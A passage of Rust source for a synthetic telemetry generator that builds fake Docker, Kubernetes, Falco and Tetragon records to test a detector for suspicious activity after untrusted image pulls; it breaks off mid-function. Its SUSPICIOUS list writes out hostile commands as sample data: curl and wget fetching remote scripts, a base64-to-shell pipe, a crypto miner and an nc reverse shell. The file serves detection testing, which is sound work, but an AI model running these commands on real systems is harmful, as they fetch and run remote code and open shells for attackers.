//! A synthetic corpus (`pullwatch gen`) of mixed container telemetry, for benchmarks and
//! smoke tests at sizes no real sample reaches. The records have the exact shapes the
//! decoders read (Docker events, Kubernetes audit and Events, Falco, Tetragon exec and
//! `tcp_connect` kprobes), noise dominates as it does in a real cluster (ordinary
//! processes and connections in allowlisted containers, API reads, kubelet chatter), and
//! exactly `chains` containers complete an AN0691 chain: an untrusted image pulled, a
//! container created and started from it, and a suspicious utility run within the
//! window. Decoys that must not alert are mixed in (untrusted images that only do
//! ordinary work, suspicious activity after the window, suspicious utilities in trusted
//! images). The output is a pure function of the arguments.
#![forbid(unsafe_code)]

use std::collections::BinaryHeap;
use std::fmt::Write as _;
use std::io::{self, Write};

/// 2026-11-20T00:00:00Z, where every generated corpus starts.
pub const EPOCH_SECS: i64 = 1_795_132_800;
const NS: i64 = 1_000_000_000;
const MS: i64 = 1_000_000;

#[derive(Clone, Debug)]
pub struct GenSpec {
    pub seed: u64,
    pub records: u64,
    pub chains: u64,
    /// Records per second of event time: sets how long a span the corpus covers.
    pub rate: u64,
}

/// How each record is delivered: bare, as the sensors write it, or as a log shipper
/// hands it on. Wrapping changes the bytes, never the records or the truth.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Wrap {
    #[default]
    None,
    /// Vector: `source_type`, `host` and `timestamp` appended at the record's top level.
    Vector,
    /// Filebeat (ECS): the record as the escaped string `event.original`, beside
    /// `@timestamp`, `host.name`, `agent`, `ecs` and `log`.
    Filebeat,
    /// Fluent Bit: the record as the escaped string `log`, beside `@timestamp` and the
    /// `kubernetes` metadata of the sensor's pod.
    FluentBit,
}

/// Which record kinds the noise is drawn from.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Mix {
    /// The container sensors only (the benchmark's corpus, unchanged).
    #[default]
    Container,
    /// Also Cilium Hubble flows and CloudTrail management events, as a cluster's
    /// network and cloud control plane add them: one record in ten of each.
    Wide,
}

/// The delivery and mix of a corpus; the default is the benchmark's corpus.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Shape {
    pub wrap: Wrap,
    pub mix: Mix,
}

/// What was generated, for the caller to check a scan against.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Truth {
    /// The image of every true chain, normalized (`registry/path:tag`).
    pub chain_images: Vec<String>,
    pub decoys: u64,
    pub records: u64,
    pub bytes: u64,
}

/// SplitMix64: tiny, fast, and the same numbers on every platform.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            return 0;
        }
        self.next() % n
    }

    fn range(&mut self, lo: i64, hi: i64) -> i64 {
        if hi <= lo {
            return lo;
        }
        lo + self.below((hi - lo) as u64) as i64
    }

    fn pick<'a, T>(&mut self, s: &'a [T]) -> &'a T {
        &s[self.below(s.len() as u64) as usize]
    }

    fn hex(&mut self, n: usize) -> String {
        const HEX: &[u8; 16] = b"0123456789abcdef";
        let mut s = String::with_capacity(n);
        while s.len() < n {
            let mut v = self.next();
            for _ in 0..16 {
                if s.len() == n {
                    break;
                }
                s.push(HEX[(v & 15) as usize] as char);
                v >>= 4;
            }
        }
        s
    }

    fn alnum(&mut self, n: usize) -> String {
        const A: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";
        (0..n)
            .map(|_| A[self.below(A.len() as u64) as usize] as char)
            .collect()
    }
}

/// An image and the executables its containers ordinarily run (never a suspicious
/// utility for an image outside the allowlist).
struct ImageKind {
    image: &'static str,
    container: &'static str,
    bins: &'static [(&'static str, &'static str)],
    ports: &'static [u16],
}

const TRUSTED: &[ImageKind] = &[
    ImageKind {
        image: "docker.io/library/nginx:1.27.2",
        container: "nginx",
        bins: &[
            ("/usr/sbin/nginx", "-g daemon off;"),
            (
                "/bin/sh",
                "-c /docker-entrypoint.d/20-envsubst-on-templates.sh",
            ),
            ("/usr/bin/curl", "-fs http://127.0.0.1/healthz"),
        ],
        ports: &[80, 443],
    },
    ImageKind {
        image: "docker.io/library/redis:7.4.1",
        container: "redis",
        bins: &[
            ("/usr/local/bin/redis-server", "*:6379"),
            ("/usr/local/bin/redis-cli", "ping"),
        ],
        ports: &[6379],
    },
    ImageKind {
        image: "docker.io/library/postgres:16.4",
        container: "postgres",
        bins: &[
            (
                "/usr/lib/postgresql/16/bin/postgres",
                "-D /var/lib/postgresql/data",
            ),
            ("/usr/bin/pg_isready", "-U postgres -h 127.0.0.1"),
            ("/bin/bash", "-c pg_isready -U postgres"),
        ],
        ports: &[5432],
    },
    ImageKind {
        image: "registry.k8s.io/coredns/coredns:v1.11.3",
        container: "coredns",
        bins: &[("/coredns", "-conf /etc/coredns/Corefile")],
        ports: &[53, 443],
    },
    ImageKind {
        image: "quay.io/cilium/cilium:v1.16.3",
        container: "cilium-agent",
        bins: &[
            (
                "/usr/bin/cilium-agent",
                "--config-dir=/tmp/cilium/config-map",
            ),
            ("/usr/bin/cilium-health", "status --probe"),
        ],
        ports: &[4240, 443],
    },
    ImageKind {
        image: "docker.io/library/python:3.12.7-slim",
        container: "api",
        bins: &[
            (
                "/usr/local/bin/python3.12",
                "-m gunicorn app:server -b 0.0.0.0:8000",
            ),
            ("/usr/local/bin/gunicorn", "app:server --workers 4"),
        ],
        ports: &[8000, 5432, 6379],
    },
];

/// Allowlisted nowhere by default, but ordinary: the organization's own images.
const INTERNAL: &[ImageKind] = &[
    ImageKind {
        image: "registry.acme.internal/shop/cart:2.3.1",
        container: "cart",
        bins: &[
            ("/app/cart", "--listen :8080"),
            ("/app/healthcheck", "--quiet"),
        ],
        ports: &[8080, 5432, 6379],
    },
    ImageKind {
        image: "registry.acme.internal/shop/checkout:1.9.0",
        container: "checkout",
        bins: &[
            ("/app/checkout", "serve --port 8443"),
            ("/usr/bin/java", "-jar /app/payments-client.jar"),
        ],
        ports: &[8443, 443],
    },
    ImageKind {
        image: "registry.acme.internal/data/etl:5.2.0",
        container: "etl",
        bins: &[
            ("/opt/etl/bin/etl-runner", "--batch nightly"),
            ("/opt/etl/bin/etl-compact", "--level 3"),
        ],
        ports: &[9092, 5432],
    },
];

const NAMESPACES: &[&str] = &["shop", "payments", "monitoring", "data", "web", "batch"];
const SUSPICIOUS: &[(&str, &str)] = &[
    (
        "/usr/bin/curl",
        "-fsSL http://198.51.100.23/stage2.sh -o /tmp/.s",
    ),
    ("/usr/bin/wget", "-qO- http://203.0.113.50/i.sh"),
    ("/bin/sh", "-c echo Y3VybCAtcyBodHRwOi8v | base64 -d | sh"),
    ("/tmp/.x/xmrig", "-o pool.example.net:3333 --donate-level 1"),
    ("/usr/bin/nc", "-e /bin/sh 198.51.100.7 4444"),
];
const ACTORS: &[&str] = &[
    "kitty0x",
    "cr0wbar",
    "devops-helper",
    "sysutil",
    "fastbuild",
];
const TOOLS: &[&str] = &[
    "toolbox",
    "xmr-proxy",
    "node-cleaner",
    "log-shipper",
    "metrics-agent",
];
const CHAIN_REGISTRIES: &[&str] = &["docker.io", "ghcr.io", "quay.io"];

#[derive(Clone)]
struct Ctr {
    host: String,
    ns: &'static str,
    pod: String,
    name: &'static str,
    id: String,
    image: String,
    /// Index into TRUSTED (`Some(true, i)`) or INTERNAL (`Some(false, i)`).
    kind: (bool, usize),
    started: i64,
    ip: String,
    pid: u32,
}

impl Ctr {
    fn kind(&self) -> &'static ImageKind {
        let list = if self.kind.0 { TRUSTED } else { INTERNAL };
        &list[self.kind.1 % list.len()]
    }
}

/// A Docker container on a plain Docker host (Docker events name no host).
#[derive(Clone)]
struct DockerCtr {
    id: String,
    name: String,
    image: String,
    kind: (bool, usize),
}

/// One record to write at a set time, beyond the noise stream.
enum Planned {
    Line(String),
    /// A Kubernetes container that replaces population slot `slot` when it starts.
    Activate(usize, Box<Ctr>, String),
}

struct Due {
    time: i64,
    seq: u64,
    what: Planned,
}

impl PartialEq for Due {
    fn eq(&self, o: &Self) -> bool {
        (self.time, self.seq) == (o.time, o.seq)
    }
}
impl Eq for Due {}
impl PartialOrd for Due {
    fn partial_cmp(&self, o: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(o))
    }
}
impl Ord for Due {
    fn cmp(&self, o: &Self) -> std::cmp::Ordering {
        (o.time, o.seq).cmp(&(self.time, self.seq))
    }
}

struct Gen {
    rng: Rng,
    hosts: Vec<String>,
    pop: Vec<Ctr>,
    docker: Vec<DockerCtr>,
    due: BinaryHeap<Due>,
    seq: u64,
    pod_serial: u64,
    audit_serial: u64,
    pid_serial: u32,
}

/// Writes the corpus to `out` and says what it holds.
pub fn generate(spec: &GenSpec, out: &mut dyn Write) -> io::Result<Truth> {
    generate_shaped(spec, Shape::default(), out)
}

/// [`generate`] with records mixed and delivered as `shape` says. The chains and decoys
/// depend on the spec alone: every shape of one spec holds the same ones.
pub fn generate_shaped(spec: &GenSpec, shape: Shape, out: &mut dyn Write) -> io::Result<Truth> {
    let rate = spec.rate.max(1);
    let dt = NS / rate as i64;
    let t0 = EPOCH_SECS * NS;
    let span = dt.saturating_mul(spec.records as i64);
    let mut g = Gen::new(spec.seed, t0);
    let mut truth = Truth::default();
    g.plan_chains(spec.chains, t0, span, &mut truth);
    g.plan_decoys(spec.records, t0, span, &mut truth);
    if g.due.len() as u64 * 2 > spec.records {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!(
                "{} records cannot hold {} chains and their decoys: ask for at least {}",
                spec.records,
                spec.chains,
                g.due.len() * 2
            ),
        ));
    }
    let mut line = String::with_capacity(4096);
    let mut wrapped = String::new();
    let mut w = io::BufWriter::with_capacity(1 << 20, out);
    // Kubernetes containers are replaced at a steady pace, wherever the corpus is cut.
    let churn_every = (rate as i64 * 4).max(1);
    for i in 0..spec.records {
        let t_slot = t0 + dt * i as i64;
        line.clear();
        // Planned records always make it into the corpus: near its end they are
        // written as soon as only as many slots remain as records are planned.
        let left = spec.records - i;
        let due_now =
            g.due.peek().is_some_and(|d| d.time <= t_slot) || (g.due.len() as u64) >= left;
        if due_now {
            if let Some(d) = g.due.pop() {
                match d.what {
                    Planned::Line(s) => line.push_str(&s),
                    Planned::Activate(slot, ctr, s) => {
                        line.push_str(&s);
                        if let Some(p) = g.pop.get_mut(slot) {
                            *p = *ctr;
                        }
                    }
                }
            }
        } else {
            if i as i64 % churn_every == churn_every - 1 {
                g.plan_churn(t_slot);
            }
            let jitter = g.rng.range(-250, 250) * MS;
            match (shape.mix, i % 10) {
                (Mix::Wide, 3) => g.hubble_flow(t_slot + jitter, &mut line),
                (Mix::Wide, 7) => g.cloudtrail(t_slot + jitter, &mut line),
                _ => g.noise(t_slot + jitter, &mut line),
            }
        }
        let line = match shape.wrap {
            Wrap::None => &mut line,
            wrap => {
                wrapped.clear();
                wrap_record(wrap, &line, t_slot, &g.hosts, &mut wrapped);
                &mut wrapped
            }
        };
        line.push('\n');
        w.write_all(line.as_bytes())?;
        truth.bytes += line.len() as u64;
        truth.records += 1;
    }
    w.flush()?;
    Ok(truth)
}

impl Gen {
    fn new(seed: u64, t0: i64) -> Gen {
        let mut rng = Rng(seed ^ 0x005e_ed0f_b00c);
        let hosts: Vec<String> = (0..40)
            .map(|i| format!("ip-10-0-{}-{}", 1 + i / 16, 10 + (i * 7) % 240))
            .collect();
        let mut g = Gen {
            rng: Rng(0),
            hosts,
            pop: Vec::new(),
            docker: Vec::new(),
            due: BinaryHeap::new(),
            seq: 0,
            pod_serial: 0,
            audit_serial: 0,
            pid_serial: 20_000,
        };
        for i in 0..480 {
            let started = t0 - rng.range(3_600, 86_400) * NS;
            let c = g.new_ctr(&mut rng, i % 40, started);
            g.pop.push(c);
        }
        for i in 0..24 {
            let trusted = i % 4 != 0;
            let kind = if trusted {
                (true, rng.below(TRUSTED.len() as u64) as usize)
            } else {
                (false, rng.below(INTERNAL.len() as u64) as usize)
            };
            let list = if trusted { TRUSTED } else { INTERNAL };
            let k = &list[kind.1];
            g.docker.push(DockerCtr {
                id: rng.hex(64),
                name: format!("{}-{}", k.container, rng.alnum(4)),
                image: k.image.to_string(),
                kind,
            });
        }
        g.rng = rng;
        g
    }

    fn new_ctr(&mut self, rng: &mut Rng, host: usize, started: i64) -> Ctr {
        // Four in five containers run allowlisted images.
        let trusted = rng.below(5) != 0;
        let kind = if trusted {
            (true, rng.below(TRUSTED.len() as u64) as usize)
        } else {
            (false, rng.below(INTERNAL.len() as u64) as usize)
        };
        let list = if trusted { TRUSTED } else { INTERNAL };
        let k = &list[kind.1];
        self.pod_serial += 1;
        self.pid_serial = self.pid_serial.wrapping_add(97) % 4_000_000 + 1000;
        Ctr {
            host: self.hosts[host % self.hosts.len()].clone(),
            ns: NAMESPACES[rng.below(NAMESPACES.len() as u64) as usize],
            pod: format!(
                "{}-{}-{}",
                k.container,
                rng.alnum(9).to_lowercase(),
                rng.alnum(5)
            ),
            name: k.container,
            id: rng.hex(64),
            image: k.image.to_string(),
            kind,
            started,
            ip: format!("10.244.{}.{}", rng.below(64), 2 + rng.below(250)),
            pid: self.pid_serial,
        }
    }

    fn plan(&mut self, time: i64, what: Planned) {
        self.seq += 1;
        self.due.push(Due {
            time,
            seq: self.seq,
            what,
        });
    }

    fn plan_line(&mut self, time: i64, s: String) {
        self.plan(time, Planned::Line(s));
    }

    /// The true chains, spread evenly over the corpus.
    fn plan_chains(&mut self, k: u64, t0: i64, span: i64, truth: &mut Truth) {
        for i in 0..k {
            let actor = ACTORS[i as usize % ACTORS.len()];
            let tool = TOOLS[(i as usize / ACTORS.len()) % TOOLS.len()];
            let registry = CHAIN_REGISTRIES[i as usize % CHAIN_REGISTRIES.len()];
            let image = format!("{registry}/{actor}{i}/{tool}:1.{}", i % 7);
            // The chain must end inside the corpus: activity comes at most 10 minutes
            // (or what is left of a short corpus) after the pull.
            let tp = t0 + (span as i128 * (2 * i as i128 + 1) / (2 * k as i128 + 1)) as i64;
            let room = (t0 + span - tp - 2 * NS).clamp(4 * NS, 600 * NS);
            let steps = (room / 4).min(20 * NS);
            let act = tp + steps + self.rng.range(NS, (room - steps - NS).max(2 * NS));
            if i % 3 == 2 {
                self.docker_chain(&image, tp, steps, act, true);
            } else {
                self.k8s_chain(&image, tp, steps, act, true);
            }
            truth.chain_images.push(image);
        }
    }

    /// Containers that must not alert: untrusted images doing only ordinary work,
    /// untrusted images whose suspicious activity comes after the window, and
    /// suspicious utilities in allowlisted images.
    fn plan_decoys(&mut self, records: u64, t0: i64, span: i64, truth: &mut Truth) {
        let n = (records / 20_000).max(3);
        for i in 0..n {
            let tp = t0 + (span as i128 * (2 * i as i128 + 1) / (2 * n as i128 + 2)) as i64;
            let room = (t0 + span - tp - 2 * NS).clamp(4 * NS, 600 * NS);
            let steps = (room / 4).min(20 * NS);
            match i % 3 {
                0 => {
                    let image = format!("docker.io/devtools{i}/buildkit-helper:0.{}", i % 9);
                    let act = tp + steps + 2 * NS;
                    self.k8s_chain(&image, tp, steps, act, false);
                }
                1 => {
                    // Activity after the window only when the corpus is long enough;
                    // otherwise an ordinary untrusted container.
                    let image = format!("ghcr.io/latecomer{i}/sync-agent:3.{}", i % 5);
                    let late = tp + 17 * 60 * NS + self.rng.range(0, 8 * 60 * NS);
                    if late < t0 + span {
                        self.k8s_chain(&image, tp, steps, late, true);
                    } else {
                        self.docker_chain(&image, tp, steps, tp + steps + NS, false);
                    }
                }
                _ => {
                    let k = &TRUSTED[i as usize % TRUSTED.len()];
                    self.docker_chain(k.image, tp, steps, tp + steps + 3 * NS, true);
                }
            }
            truth.decoys += 1;
        }
    }

    fn k8s_chain(&mut self, image: &str, tp: i64, steps: i64, act: i64, suspicious: bool) {
        let rng = &mut self.rng;
        let host = self.hosts[rng.below(self.hosts.len() as u64) as usize].clone();
        let ns = *rng.pick(NAMESPACES);
        let name = *rng.pick(&["worker", "agent", "sidecar", "job"]);
        let pod = format!("{name}-{}-{}", rng.alnum(9), rng.alnum(5));
        self.pid_serial = self.pid_serial.wrapping_add(131) % 4_000_000 + 1000;
        let c = Ctr {
            host,
            ns,
            pod,
            name,
            id: rng.hex(64),
            image: image.to_string(),
            kind: (false, 0),
            started: tp + steps,
            ip: format!("10.244.{}.{}", rng.below(64), 2 + rng.below(250)),
            pid: self.pid_serial,
        };
        let audit = self.audit_pod_create(tp - 2 * NS, &c, "Always");
        self.plan_line(tp - 2 * NS, audit);
        let bind = self.audit_binding(tp - NS, &c);
        self.plan_line(tp - NS, bind);
        let msg = format!("Pulling image \\\"{image}\\\"");
        let s = self.k8s_event(tp, &c, "Pulling", &msg);
        self.plan_line(tp, s);
        let msg = format!(
            "Successfully pulled image \\\"{image}\\\" in {}ms ({}ms including waiting). Image size: 48213112 bytes.",
            steps / MS / 2,
            steps / MS / 2
        );
        let s = self.k8s_event(tp + steps / 2, &c, "Pulled", &msg);
        self.plan_line(tp + steps / 2, s);
        let msg = format!("Created container: {}", c.name);
        let s = self.k8s_event(c.started - NS / 2, &c, "Created", &msg);
        self.plan_line(c.started - NS / 2, s);
        let msg = format!("Started container: {}", c.name);
        let s = self.k8s_event(c.started, &c, "Started", &msg);
        self.plan_line(c.started, s);
        let s = self.tetragon_exec(
            c.started + 40 * MS,
            &c,
            c.pid,
            "/app/entrypoint",
            "--serve :8080",
            1,
        );
        self.plan_line(c.started + 40 * MS, s);
        let (bin, args) = if suspicious {
            *self.rng.pick(SUSPICIOUS)
        } else {
            ("/app/entrypoint", "--reload")
        };
        let pid = c.pid + 7;
        let s = self.tetragon_exec(act, &c, pid, bin, args, c.pid);
        self.plan_line(act, s);
        if suspicious {
            // Falco often reports the same process; it is the same fact, not a second chain.
            let s = self.falco_proc(act + 3 * MS, &c, pid, bin, args);
            self.plan_line(act + 3 * MS, s);
        }
    }

    fn docker_chain(&mut self, image: &str, tp: i64, steps: i64, act: i64, suspicious: bool) {
        let rng = &mut self.rng;
        let d = DockerCtr {
            id: rng.hex(64),
            name: format!("{}-{}", rng.pick(&["runner", "job", "svc"]), rng.alnum(4)),
            image: image.to_string(),
            kind: (false, 0),
        };
        let s = docker_line(tp, "image", "pull", image, image, None, image);
        self.plan_line(tp, s);
        let s = docker_line(
            tp + steps / 2,
            "container",
            "create",
            &d.id,
            &d.image,
            Some(&d.name),
            &d.image,
        );
        self.plan_line(tp + steps / 2, s);
        let s = docker_line(
            tp + steps,
            "container",
            "start",
            &d.id,
            &d.image,
            Some(&d.name),
            &d.image,
        );
        self.plan_line(tp + steps, s);
        let cmd = if suspicious {
            let (b, a) = *self.rng.pick(SUSPICIOUS);
            format!("exec_start: {b} {a}")
        } else {
            "exec_start: /app/healthcheck --quiet".to_string()
        };
        let s = docker_line(
            act,
            "container",
            &cmd,
            &d.id,
            &d.image,
            Some(&d.name),
            &d.image,
        );
        self.plan_line(act, s);
    }

    /// A Kubernetes container ends and a new one takes its population slot.
    fn plan_churn(&mut self, t: i64) {
        let slot = self.rng.below(self.pop.len() as u64) as usize;
        let Some(old) = self.pop.get(slot).cloned() else {
            return;
        };
        let mut rng = Rng(self.rng.next());
        let host = self.rng.below(self.hosts.len() as u64) as usize;
        let steps = self.rng.range(3 * NS, 15 * NS);
        let mut c = self.new_ctr(&mut rng, host, t + steps);
        let s = self.k8s_event(
            t,
            &old,
            "Killing",
            &format!("Stopping container {}", old.name),
        );
        self.plan_line(t, s);
        let s = tetragon_exit(t + 200 * MS, &old);
        self.plan_line(t + 200 * MS, s);
        let policy = if c.kind.0 { "IfNotPresent" } else { "Always" };
        let s = self.audit_pod_create(t + 100 * MS, &c, policy);
        self.plan_line(t + 100 * MS, s);
        let s = self.audit_binding(t + 300 * MS, &c);
        self.plan_line(t + 300 * MS, s);
        let tp = t + NS;
        if policy == "Always" {
            let msg = format!("Pulling image \\\"{}\\\"", c.image);
            let s = self.k8s_event(tp, &c, "Pulling", &msg);
            self.plan_line(tp, s);
            let msg = format!(
                "Successfully pulled image \\\"{}\\\" in 812ms (812ms including waiting). Image size: 23381904 bytes.",
                c.image
            );
            let s = self.k8s_event(tp + NS, &c, "Pulled", &msg);
            self.plan_line(tp + NS, s);
        } else {
            let msg = format!(
                "Container image \\\"{}\\\" already present on machine",
                c.image
            );
            let s = self.k8s_event(tp, &c, "Pulled", &msg);
            self.plan_line(tp, s);
        }
        let msg = format!("Created container: {}", c.name);
        let s = self.k8s_event(c.started - NS / 2, &c, "Created", &msg);
        self.plan_line(c.started - NS / 2, s);
        let msg = format!("Started container: {}", c.name);
        let s = self.k8s_event(c.started, &c, "Started", &msg);
        let (bin, args) = c.kind().bins[0];
        let exec = self.tetragon_exec(c.started + 50 * MS, &c, c.pid, bin, args, 1);
        let status = self.audit_pod_status(c.started + 300 * MS, &c);
        c.pid += 1;
        self.plan(c.started, Planned::Activate(slot, Box::new(c.clone()), s));
        self.plan_line(c.started + 50 * MS, exec);
        self.plan_line(c.started + 300 * MS, status);
    }

    /// One ordinary record at `t`.
    fn noise(&mut self, t: i64, out: &mut String) {
        let r = self.rng.below(1000);
        let slot = self.rng.below(self.pop.len() as u64) as usize;
        let Some(c) = self.pop.get(slot).cloned() else {
            return;
        };
        let k = c.kind();
        match r {
            0..=399 => {
                let (bin, args) = *self.rng.pick(k.bins);
                let pid = c.pid + 1 + self.rng.below(5000) as u32;
                out.push_str(&self.tetragon_exec(t, &c, pid, bin, args, c.pid));
            }
            400..=629 => {
                let port = *self.rng.pick(k.ports);
                let dst = format!(
                    "10.{}.{}.{}",
                    96 + self.rng.below(4),
                    self.rng.below(256),
                    1 + self.rng.below(254)
                );
                let pid = c.pid + self.rng.below(3) as u32;
                let (bin, _) = k.bins[0];
                out.push_str(&tetragon_connect(
                    t,
                    &c,
                    pid,
                    bin,
                    &dst,
                    port,
                    self.rng.range(32768, 60999),
                ));
            }
            630..=669 => out.push_str(&tetragon_exit(t, &c)),
            670..=759 => {
                if c.kind.0 {
                    let (bin, args) = *self.rng.pick(k.bins);
                    let pid = c.pid + 1 + self.rng.below(5000) as u32;
                    out.push_str(&self.falco_proc(t, &c, pid, bin, args));
                } else {
                    out.push_str(&self.falco_k8s_api(t, &c));
                }
            }
            760..=869 => out.push_str(&self.audit_read(t, &c)),
            870..=909 => out.push_str(&self.k8s_event_noise(t, &c)),
            _ => out.push_str(&self.docker_noise(t)),
        }
    }

    fn tetragon_exec(
        &mut self,
        t: i64,
        c: &Ctr,
        pid: u32,
        bin: &str,
        args: &str,
        ppid: u32,
    ) -> String {
        let mut s = String::with_capacity(1100);
        let exec_id = self.rng.alnum(24);
        let _ = write!(
            s,
            r#"{{"process_exec":{{"process":{{"exec_id":"{exec_id}","pid":{pid},"uid":0,"cwd":"/","binary":"{bin}","arguments":"{args}","flags":"execve clone","start_time":"{}","auid":4294967295,"pod":{},"docker":"{}","parent_exec_id":"{}","refcnt":1}},"parent":{{"exec_id":"{}","pid":{ppid},"binary":"/usr/bin/containerd-shim-runc-v2","flags":"execve clone","start_time":"{}"}}}},"node_name":"{}","time":"{}"}}"#,
            rfc3339(t, 9),
            tetragon_pod(c),
            &c.id[..31],
            self.rng.alnum(24),
            self.rng.alnum(24),
            rfc3339(c.started - NS, 9),
            c.host,
            rfc3339(t, 9),
        );
        s
    }

    fn falco_proc(&mut self, t: i64, c: &Ctr, pid: u32, bin: &str, args: &str) -> String {
        let name = bin.rsplit('/').next().unwrap_or(bin);
        let (repo, tag) = c.image.rsplit_once(':').unwrap_or((&c.image, "latest"));
        format!(
            r#"{{"hostname":"{host}","output":"{hms}: Notice A process was spawned in a container (user=root command={name} {args} container_id={cid} image={repo})","priority":"Notice","rule":"Container process spawned","source":"syscall","tags":["container","process","mitre_execution"],"time":"{time}","output_fields":{{"evt.time":{t},"container.id":"{cid}","container.name":"{cname}","container.image.repository":"{repo}","container.image.tag":"{tag}","k8s.ns.name":"{ns}","k8s.pod.name":"{pod}","proc.name":"{name}","proc.exepath":"{bin}","proc.cmdline":"{name} {args}","proc.pid":{pid},"proc.pname":"containerd-shim","user.name":"root"}}}}"#,
            host = c.host,
            hms = &rfc3339(t, 9)[11..29],
            cid = &c.id[..12],
            time = rfc3339(t, 9),
            cname = c.name,
            ns = c.ns,
            pod = c.pod,
        )
    }

    fn falco_k8s_api(&mut self, t: i64, c: &Ctr) -> String {
        let (repo, tag) = c.image.rsplit_once(':').unwrap_or((&c.image, "latest"));
        let (bin, _) = c.kind().bins[0];
        let name = bin.rsplit('/').next().unwrap_or(bin);
        format!(
            r#"{{"hostname":"{host}","output":"{hms}: Notice Unexpected connection to K8s API Server from container (connection={ip}:{sport}->10.96.0.1:443 command={name} container_id={cid} image={repo})","priority":"Notice","rule":"Contact K8S API Server From Container","source":"syscall","tags":["container","k8s","network"],"time":"{time}","output_fields":{{"evt.time":{t},"container.id":"{cid}","container.name":"{cname}","container.image.repository":"{repo}","container.image.tag":"{tag}","k8s.ns.name":"{ns}","k8s.pod.name":"{pod}","proc.name":"{name}","proc.exepath":"{bin}","proc.cmdline":"{name}","fd.name":"{ip}:{sport}->10.96.0.1:443","fd.rip":"10.96.0.1","fd.rport":443,"fd.lip":"{ip}","fd.lport":{sport},"fd.l4proto":"tcp"}}}}"#,
            host = c.host,
            hms = &rfc3339(t, 9)[11..29],
            ip = c.ip,
            sport = self.rng.range(32768, 60999),
            cid = &c.id[..12],
            time = rfc3339(t, 9),
            cname = c.name,
            ns = c.ns,
            pod = c.pod,
        )
    }

    fn audit_read(&mut self, t: i64, c: &Ctr) -> String {
        self.audit_serial += 1;
        let id = self.uuid();
        let (verb, resource, user) = *self.rng.pick(&[
            (
                "get",
                "configmaps",
                "system:serviceaccount:monitoring:prometheus",
            ),
            (
                "list",
                "pods",
                "system:serviceaccount:kube-system:replicaset-controller",
            ),
            ("watch", "endpoints", "system:kube-proxy"),
            ("get", "secrets", "system:serviceaccount:shop:cart"),
            ("update", "leases", "system:node:ip-10-0-1-10"),
            (
                "list",
                "services",
                "system:serviceaccount:kube-system:coredns",
            ),
        ]);
        let ts = rfc3339(t, 6);
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{id}","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/{ns}/{resource}?resourceVersion=0","verb":"{verb}","user":{{"username":"{user}","groups":["system:serviceaccounts","system:authenticated"]}},"sourceIPs":["{ip}"],"userAgent":"kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46","objectRef":{{"resource":"{resource}","namespace":"{ns}","apiVersion":"v1"}},"responseStatus":{{"metadata":{{}},"code":200}},"requestReceivedTimestamp":"{ts}","stageTimestamp":"{ts}","annotations":{{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding"}}}}"#,
            ns = c.ns,
            ip = c.ip,
        )
    }

    fn audit_pod_create(&mut self, t: i64, c: &Ctr, policy: &str) -> String {
        let id = self.uuid();
        let ts = rfc3339(t, 6);
        let pod_json = format!(
            r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{pod}","namespace":"{ns}","labels":{{"app":"{name}"}}}},"spec":{{"containers":[{{"name":"{name}","image":"{image}","imagePullPolicy":"{policy}","resources":{{}}}}],"restartPolicy":"Always","serviceAccountName":"default"}}}}"#,
            pod = c.pod,
            ns = c.ns,
            name = c.name,
            image = c.image,
        );
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"{id}","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/{ns}/pods","verb":"create","user":{{"username":"system:serviceaccount:kube-system:replicaset-controller","groups":["system:serviceaccounts","system:authenticated"]}},"sourceIPs":["10.0.0.12"],"userAgent":"kube-controller-manager/v1.31.2","objectRef":{{"resource":"pods","namespace":"{ns}","name":"{pod}","apiVersion":"v1"}},"responseStatus":{{"metadata":{{}},"code":201}},"requestObject":{pod_json},"requestReceivedTimestamp":"{ts}","stageTimestamp":"{ts}"}}"#,
            ns = c.ns,
            pod = c.pod,
        )
    }

    fn audit_binding(&mut self, t: i64, c: &Ctr) -> String {
        let id = self.uuid();
        let ts = rfc3339(t, 6);
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"{id}","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/{ns}/pods/{pod}/binding","verb":"create","user":{{"username":"system:kube-scheduler","groups":["system:authenticated"]}},"sourceIPs":["10.0.0.12"],"userAgent":"kube-scheduler/v1.31.2","objectRef":{{"resource":"pods","namespace":"{ns}","name":"{pod}","apiVersion":"v1","subresource":"binding"}},"responseStatus":{{"metadata":{{}},"code":201}},"requestObject":{{"kind":"Binding","apiVersion":"v1","metadata":{{"name":"{pod}","namespace":"{ns}"}},"target":{{"kind":"Node","name":"{host}"}}}},"requestReceivedTimestamp":"{ts}","stageTimestamp":"{ts}"}}"#,
            ns = c.ns,
            pod = c.pod,
            host = c.host,
        )
    }

    fn audit_pod_status(&mut self, t: i64, c: &Ctr) -> String {
        let id = self.uuid();
        let ts = rfc3339(t, 6);
        format!(
